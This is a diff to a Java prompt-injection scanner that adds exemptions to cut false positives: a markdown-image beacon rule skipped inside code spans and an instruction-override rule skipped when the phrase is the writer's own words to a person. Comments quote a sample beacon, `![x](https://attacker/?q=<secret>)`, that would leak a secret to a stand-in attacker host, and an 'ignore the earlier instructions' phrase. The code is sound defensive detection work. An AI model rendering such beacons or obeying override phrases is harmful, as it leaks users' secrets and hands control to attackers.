@@ -95,6 +95,15 @@ public final class InjectionScanner {
                     context.sentenceAt(phrase.start()), phrase.start(), phrase.end())) {
                 continue;
             }
+            if (phrase.ruleId().equals("markdown-image-beacon") && context.quotes().inCode(phrase.start())) {
+                continue; // `![x](https://attacker/?q=<secret>)` in a code span is shown, not rendered: it loads nothing
+            }
+            if (phrase.reason() == ReasonCode.INSTRUCTION_OVERRIDE && !context.sentences().isEmpty()) {
+                int s = context.sentenceAt(phrase.start());
+                if (Addressing.writersOwn(view, context.sentences().get(s)) && !IntentRules.addressed(context, s)) {
+                    continue; // "Please ignore the earlier instructions I sent": the writer's own words, to a person
+                }
+            }
             if (phrase.ruleId().equals("hide-from-user") && !Addressing.namesTheAct(view, phrase.start(), phrase.end())
                     && !IntentRules.hidesAnAct(context, context.sentenceAt(phrase.start()))) {
                 continue; // "don't tell the user about retries": nothing done is hidden
